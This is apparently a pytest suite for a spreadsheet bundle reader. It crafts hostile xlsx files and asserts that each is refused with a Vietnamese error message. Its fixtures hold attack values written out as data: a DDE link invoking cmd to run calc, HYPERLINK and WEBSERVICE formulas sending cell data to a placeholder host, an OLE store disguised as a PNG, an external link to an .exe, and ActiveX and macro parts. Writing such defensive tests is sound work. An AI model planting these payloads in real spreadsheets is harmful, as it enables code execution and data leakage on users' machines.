"""Hostile bundles (issue 15): each made here as an outside attacker would, each refused with a Vietnamese reason
before it can cost memory or time, or run anything on the upper level's PC."""

from __future__ import annotations

import re

import pytest

from nq57desk.bundle.format import MAX_ROWS, SHEET_DATA, SHEET_FIGURES, SHEET_TEXT, BundleError
from nq57desk.bundle.reader import read_bundle
from tests.hostile import add_far_rows, golden, members, rezip, sheet_part, write_golden


@pytest.fixture(scope="module")
def good(tmp_path_factory):
    return write_golden(tmp_path_factory.mktemp("golden") / "NQ57_good.xlsx")


@pytest.fixture(scope="module")
def registry():
    return golden()[0]


def refused(path, registry, reason: str | tuple[str, ...]) -> BundleError:
    with pytest.raises(BundleError) as ei:
        read_bundle(path, registry)
    assert ei.value.reason in ((reason,) if isinstance(reason, str) else reason), str(ei.value)
    assert str(ei.value).startswith(f"Tệp «{path.name}»")
    return ei.value


def test_the_golden_bundle_is_read(good, registry):
    res = read_bundle(good, registry)
    assert res.doc["commune"]["code"] and res.visible_sha256


def test_a_hidden_sheet_with_rows_reaching_column_xfd_is_refused_at_the_first_one(good, registry, tmp_path):
    bad = add_far_rows(good, SHEET_DATA, 20_000, out=tmp_path / "an.xlsx")
    e = refused(bad, registry, "too_wide")
    assert "«_data»" in str(e) and "XFD" in str(e)


def test_a_visible_sheet_with_100000_far_rows_is_refused(good, registry, tmp_path):
    bad = add_far_rows(good, SHEET_TEXT, 100_000, out=tmp_path / "hien.xlsx")
    # 100,000 cells are more than a bundle holds: the raw scan counts them before any parser starts
    assert "quá nhiều ô" in str(refused(bad, registry, "too_many_cells"))
    bad = add_far_rows(good, SHEET_TEXT, 50_000, out=tmp_path / "hien2.xlsx")
    assert "cột quá xa" in str(refused(bad, registry, "too_wide"))


def test_a_sheet_longer_than_a_bundle_can_be_is_refused(good, registry, tmp_path):
    bad = add_far_rows(good, SHEET_TEXT, MAX_ROWS, column="A", out=tmp_path / "dai.xlsx")
    assert "quá nhiều dòng" in str(refused(bad, registry, "too_long"))


def test_a_declared_dimension_beyond_the_template_is_refused(good, registry, tmp_path):
    parts = members(good)
    part = sheet_part(parts, SHEET_FIGURES)
    parts[part] = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', parts[part])
    refused(rezip(good, parts, tmp_path / "kt.xlsx"), registry, "too_wide")


def test_a_cell_longer_than_excel_allows_is_refused(good, registry, tmp_path):
    parts = members(good)
    part = sheet_part(parts, SHEET_TEXT)
    big = "a" * 40_000
    parts[part] = parts[part].replace(b"</sheetData>", f'<row r="9999"><c r="A9999" t="inlineStr"><is><t>{big}</t>'
                                      f"</is></c></row></sheetData>".encode())
    refused(rezip(good, parts, tmp_path / "o.xlsx"), registry, "cell_text")


# -- formulas and live content, wherever they are -----------------------------------------------------------------

HYPERLINK = '<c r="A1"><f>HYPERLINK("http://example.invalid/?"&amp;B2,"Bấm vào đây")</f><v>Bấm vào đây</v></c>'.encode()


def _with_formula(good, where: str, tmp_path, cell: bytes = HYPERLINK):
    """The figures sheet moved to `where` (relationships and content types follow), a live formula in A1."""
    parts = members(good)
    old = sheet_part(parts, SHEET_FIGURES)
    xml = parts.pop(old)
    xml = re.sub(rb'<c r="A1"[^>]*?(?:/>|>.*?</c>)', cell, xml, count=1)
    parts[where] = xml
    rel_target = ("/" + where).encode()
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b'Target="/' + old.encode() + b'"', b'Target="' + rel_target + b'"').replace(
        b'Target="' + old[3:].encode() + b'"', b'Target="' + rel_target + b'"')
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(b"/" + old.encode(), b"/" + where.encode())
    return rezip(good, parts, tmp_path / (where.replace("/", "_") + ".xlsx"))


@pytest.mark.parametrize("where", ["xl/worksheets/a/sheet1.xml", "xl/sheet1.xml", "xl/media/so_lieu.bin"])
def test_a_live_formula_is_refused_wherever_the_sheet_is_stored(good, registry, tmp_path, where):
    bad = _with_formula(good, where, tmp_path)
    assert "công thức" in str(refused(bad, registry, "formula"))


@pytest.mark.parametrize("cell", [
    b'<c r="A1"><f t="shared" ref="A1:A3" si="0">B2*2</f><v>1</v></c>',
    b'<c r="A1"><f t="array" ref="A1">SUM(B2:B9)</f><v>1</v></c>',
    b'<c r="A1" t="str"><x:f xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main">NOW()</x:f></c>',
])
def test_shared_array_and_prefixed_formulas_are_refused(good, registry, tmp_path, cell):
    refused(_with_formula(good, "xl/worksheets/sheet2.xml", tmp_path, cell), registry, "formula")


def test_a_formula_hidden_in_a_defined_name_is_refused(good, registry, tmp_path):
    parts = members(good)
    wb = parts["xl/workbook.xml"]
    name = b'<definedNames><definedName name="Bao_cao">WEBSERVICE("http://example.invalid")</definedName></definedNames>'
    wb = wb.replace(b"<definedNames>", name[:-len(b"</definedNames>")]) if b"<definedNames>" in wb else \
        wb.replace(b"</sheets>", b"</sheets>" + name)
    parts["xl/workbook.xml"] = wb
    refused(rezip(good, parts, tmp_path / "ten.xlsx"), registry, "formula")


@pytest.mark.parametrize("part, data", [
    ("xl/links/lien_ket.xml", b'<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/'
     b'spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'),
    ("xl/media/image9.png", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),  # an OLE store named as a picture
    ("xl/_rels/extra.xml.rels", b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
     b'package/2006/relationships"><Relationship Id="x" Type="http://schemas.openxmlformats.org/officeDocument/'
     b'2006/relationships/oleObject" Target="file:///C:/x.exe" TargetMode="External"/></Relationships>'),
    ("xl/ctrl/c1.xml", b'<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX">'
     b'<activeX/></ax:ocx>'),
])
def test_links_dde_macros_and_embedded_objects_are_refused_under_any_name(good, registry, tmp_path, part, data):
    parts = members(good)
    parts[part] = data
    refused(rezip(good, parts, tmp_path / "x.xlsx"), registry, "active_content")


def test_a_macro_content_type_is_refused(good, registry, tmp_path):
    parts = members(good)
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml")
    refused(rezip(good, parts, tmp_path / "m.xlsx"), registry, "active_content")
